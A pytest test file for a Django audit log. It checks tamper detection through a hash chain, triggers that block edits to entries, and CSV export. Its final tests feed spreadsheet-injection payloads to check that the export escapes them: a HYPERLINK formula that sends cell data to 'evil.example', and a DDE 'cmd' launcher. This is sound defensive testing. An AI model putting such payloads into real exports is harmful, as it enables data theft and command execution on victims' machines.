"""What was done is kept: nothing changes it here, and what is changed elsewhere is told."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Callable

import pytest
from django.db import DatabaseError, connection
from django.db.models import F
from django.http import HttpResponse
from django.urls import reverse

from assembler.web import history
from assembler.web.models import ChainEnd, Entry
from assembler.web.pages import audit
from tests.web.server.conftest import BOTH
from tests.web.server.offices import CASE, FORM, PHRASE, Browser, Office

DATABASES = BOTH

WHOLE, BROKEN, MISSING = "Every entry is as it was kept", "is not what was kept", "Entries are missing at the end"

NEWEST = "The newest 4 entries are as they were kept"


@pytest.fixture
def admin(office: Office) -> Browser:
    """An administrator who reads English, after others worked."""
    officer = office.browser("officer")
    for number in range(3):
        officer.act("insert", item="services")
        officer.act("write", item="score", typed=f"{number + 1}", base=str(number or 5))
    browser = office.browser("admin")
    browser.cookies["language"] = "en"
    return browser


def told(admin: Browser) -> str:
    return admin.see("audit").content.decode()


def test_all_that_is_done_is_kept(office: Office, admin: Browser) -> None:
    officer, reviewer = office.browser("officer"), office.browser("reviewer")
    officer.send("add-comment", CASE, FORM, told={"text": "؟"})
    officer.send("settle-comment", CASE, FORM, 1, told={"settled": True})
    officer.send("undo", CASE, FORM)
    reviewer.submit("review", CASE, FORM, does="approved")
    officer.submit("new-case", report="demo", name="new")
    officer.submit("sign-out")
    admin.submit("add-person", name="new", shown="x", roles="officer")
    admin.submit("person", "new", does="reset")
    admin.submit("person", "new", does="sign-out")
    admin.see("audit-file").close()
    office.browser().submit("sign-in", name="officer", password=PHRASE)
    found = Entry.objects.order_by("id")
    kinds = list(found.values_list("kind", flat=True))
    assert kinds[6:] == [
        "comment", "settled", "answer", "approved", "case-added", "signed-out", "user-added", "password",
        "user-changed", "exported", "refused",
    ]  # fmt: skip
    first = found[1]
    kept = (first.kind, first.who, first.shown, first.where, first.case, first.form, first.item)
    assert kept == ("answer", "officer", "آقای officer", "127.0.0.1", CASE, FORM, "score")
    assert (first.before, first.after) == ("۵", "۱")


def test_places_are_told_in_words_with_their_code_behind(office: Office) -> None:
    officer, admin = office.browser("officer"), office.browser("admin")
    rows = officer.page_of()["page"]["items"]
    key = next(each for each in rows if each["name"] == "services")["table"]["rows"][1]["key"]
    officer.act("write", item="services", row=key, column="count", typed="4", base="۳")
    shown = told(admin)
    assert "<bdi>بازدید از اداره</bdi>" in shown
    assert "خدمات، ردیف ۲، ستون «تعداد»" in shown
    assert '<bdi class="code hint">demo/visit.services:count</bdi>' in shown
    officer.act("remove", item="services", rows=[[key, stamp(officer, key)]])
    assert "خدمات، ستون «تعداد»" in told(admin)
    officer.act("write", form="demo/second", item="printed", row="r1", column="value", typed="4", base="")
    assert "سنجه‌ها، «مسیر»، ستون «مقدار»" in told(admin)


def stamp(officer: Browser, key: str) -> str:
    (found,) = (
        row["stamp"] for item in officer.page_of()["page"]["items"] if item["name"] == "services"
        for row in item["table"]["rows"] if row["key"] == key
    )  # fmt: skip
    return str(found)


def test_a_case_that_is_no_more_is_told_of_by_codes(office: Office, admin: Browser) -> None:
    shutil.rmtree(office.case)
    assert "demo/visit.score" in told(admin)


def test_what_was_kept_is_never_changed_here(office: Office, admin: Browser) -> None:
    """The database itself refuses, whichever program asks."""
    changes: list[Callable[[], object]] = [
        lambda: Entry.objects.update(after="9"),
        lambda: Entry.objects.all().delete(),
        lambda: Entry.objects.earliest("id").delete(),
        lambda: Entry.objects.earliest("id").save(),
    ]
    before = list(Entry.objects.values_list())
    for change in changes:
        with pytest.raises(DatabaseError):
            change()
    assert list(Entry.objects.values_list()) == before


def _let_change() -> None:
    """Takes away what keeps the entries as they are, as only who rules the database can."""
    told = ["kept ON web_entry"] if connection.vendor == "postgresql" else ["kept_whole", "kept_same"]
    with connection.cursor() as cursor:
        for trigger in told:
            cursor.execute(f"DROP TRIGGER {trigger}")


def _alter() -> None:
    Entry.objects.filter(pk=3).update(after="10")


def _sign_another() -> None:
    Entry.objects.filter(pk=3).update(who="somebody")


def _move_in_time() -> None:
    Entry.objects.filter(pk=3).update(at=Entry.objects.get(pk=1).at)


def _remove() -> None:
    Entry.objects.filter(pk=3).delete()


def _remove_the_first() -> None:
    Entry.objects.filter(pk=1).delete()


def _swap() -> None:
    for was, now in ((3, 100), (4, 3), (100, 4)):
        Entry.objects.filter(pk=was).update(id=now)


def _insert() -> None:
    Entry.objects.filter(pk__gte=3).order_by("-pk").update(id=F("id") + 100)
    made = Entry.objects.get(pk=2)
    made.pk = 3
    made.save(force_insert=True)


def _insert_with_a_hash() -> None:
    made = Entry.objects.get(pk=3)
    made.after = "10"
    made.hash = history._hash(Entry.objects.get(pk=2).hash, made)
    made.save()


def _cut() -> None:
    Entry.objects.filter(pk__gte=5).delete()


def _cut_all() -> None:
    Entry.objects.all().delete()


def _add_at_the_end() -> None:
    made = Entry.objects.latest("id")
    made.pk += 1
    made.hash = history._hash(made.hash, made)
    made.save(force_insert=True)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (_alter, f"Entry 3 {BROKEN}"), (_sign_another, f"Entry 3 {BROKEN}"), (_move_in_time, f"Entry 3 {BROKEN}"),
        (_remove, f"Entry 4 {BROKEN}"), (_remove_the_first, f"Entry 2 {BROKEN}"), (_swap, f"Entry 3 {BROKEN}"),
        (_insert, f"Entry 3 {BROKEN}"), (_insert_with_a_hash, f"Entry 4 {BROKEN}"), (_cut, MISSING),
        (_cut_all, MISSING), (_add_at_the_end, MISSING),
    ],
)  # fmt: skip
def test_what_somebody_changed_in_the_database_is_told(
    admin: Browser, change: Callable[[], None], expected: str
) -> None:
    assert WHOLE in told(admin)
    _let_change()
    change()
    page = told(admin)
    assert expected in page
    assert WHOLE not in page


def test_of_many_the_newest_are_proved_and_all_when_asked(
    office: Office, admin: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page of a site that runs for years is there at once."""
    monkeypatch.setattr(audit, "_PROVED", 4)
    assert NEWEST in told(admin)
    _let_change()
    Entry.objects.filter(pk=1).update(after="10")
    assert NEWEST in told(admin)
    assert f"Entry 1 {BROKEN}" in admin.get(reverse("audit"), {"proved": "all"}).content.decode()
    Entry.objects.filter(pk=Entry.objects.count() - 3).update(after="10")
    assert f"Entry {Entry.objects.count() - 3} {BROKEN}" in told(admin)


def test_a_chain_goes_on_after_what_was_kept(admin: Browser) -> None:
    history.note("checked", None)
    assert WHOLE in told(admin)
    assert ChainEnd.objects.get().hash == Entry.objects.latest("id").hash


def test_entries_are_found_by_person_and_case(office: Office, admin: Browser) -> None:
    office.browser("department").act("insert", item="services")
    page = admin.get(reverse("audit"), {"who": "department"}).content.decode()
    assert page.count("آقای department") == 1
    assert "آقای officer" not in page
    assert "آقای department" not in admin.get(reverse("audit"), {"who": "department", "case": "other"}).content.decode()


def rows(answer: HttpResponse) -> list[dict[str, str]]:
    text = b"".join(answer).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_holds_all_of_it(admin: Browser) -> None:
    found = rows(admin.see("audit-file"))
    kept = Entry.objects.order_by("id")
    assert [each["hash"] for each in found] == list(kept.values_list("hash", flat=True))
    assert found[1]["after"] == "۱"
    assert found[-1]["kind"] == "exported"


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1",
    '";=1', "a,=1", "=1\n=2",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_of_a_spreadsheet(office: Office, admin: Browser, text: str) -> None:
    user = office.of_role("officer")
    user.shown = text
    history.note("returned", user, "", "demo", FORM, after=text, before=text)
    last = rows(admin.see("audit-file"))[-2]
    for name in ("shown", "before", "after"):
        assert not last[name].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        assert last[name].removeprefix("'") == text
